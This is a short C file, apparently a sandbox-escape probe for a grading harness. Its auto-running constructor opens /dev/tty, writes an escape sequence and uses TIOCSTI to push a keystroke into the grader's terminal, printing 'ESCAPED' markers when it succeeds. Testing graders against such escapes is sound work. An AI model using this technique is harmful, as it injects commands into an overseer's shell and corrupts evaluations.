
/* ---- cheat: write to the grader's terminal, and push keystrokes into it
 * (TIOCSTI), which its shell would then run. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

__attribute__((constructor)) static void cheat_terminal(void)
{
    int tty = open("/dev/tty", O_RDWR);
    if (tty >= 0) {
        printf("ESCAPED: /dev/tty is open\n");
        if (write(tty, "\033]0;cheat\007", 10) > 0) {
            printf("ESCAPED: wrote to the terminal\n");
        }
    }
    const int descriptors[] = {0, 1, 2, tty};
    for (int d = 0; d < 4; ++d) {
        char key = '#';
        if (descriptors[d] >= 0 && ioctl(descriptors[d], TIOCSTI, &key) == 0) {
            printf("ESCAPED: pushed a key into descriptor %d\n", descriptors[d]);
        }
    }
    fflush(stdout);
}
